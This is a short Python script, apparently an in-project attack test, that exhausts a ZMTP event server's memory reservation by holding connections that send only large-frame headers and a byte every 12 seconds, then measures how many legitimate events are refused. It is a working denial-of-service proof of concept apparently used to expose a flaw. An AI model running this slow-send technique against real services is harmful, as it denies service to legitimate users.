"""A few connections send only the headers of maximal frames (and a byte now and then), so
Limits.held (99 MiB by default) stays reserved: every other producer's event that is not a
single short frame (any event over 255 bytes, any event with a blob) is refused `no_room`.
The reservation is also allocated at once (bytearray(size)) — RSS for headers alone.

.venv/bin/python attacks/zmtp_room.py
"""
import time
from common import start, raw, frame, header, stats, rejects, good_producer

MiB = 1 << 20
sc, ep = start()
try:
    print("baseline:", stats(sc.pid))
    conns = []
    for _ in range(2):  # 2 x 48 MiB blob frames, headers only
        s = raw(ep); s.sendall(frame(b"{}", more=True) + header(48 * MiB) + b"y"); conns.append(s)
    # Limits.held = 2*(1 MiB + 48 MiB) + 1 MiB = 103,809,024; left after the two: 3,145,724
    for size in (MiB, MiB, 3145724 - 2 * MiB):  # event frames, headers only: the room is exactly full
        s = raw(ep); s.sendall(header(size, more=True) + b"y"); conns.append(s)
    time.sleep(1)
    print("after 5 header-only connections:", stats(sc.pid), rejects(sc))
    cid, got = good_producer(ep, 100, sc=sc, wait=8)
    print(f"good producer, 100 events of ~400 bytes (one LONG frame each): journaled {got} / 100;", rejects(sc))
    for _ in range(3):  # 30 s+ : a byte every 12 s keeps them past STALL_SECONDS
        time.sleep(12)
        for s in conns:
            s.send(b"y")
    cid, got = good_producer(ep, 100, sc=sc, wait=8)
    print(f"36 s later (past the 30 s stall sweep): journaled {got} / 100;", rejects(sc), stats(sc.pid))
    for s in conns:
        s.close()
    time.sleep(1)
    cid, got = good_producer(ep, 100, sc=sc, wait=10)
    print(f"after the attack: journaled {got} / 100")
finally:
    sc.stop()
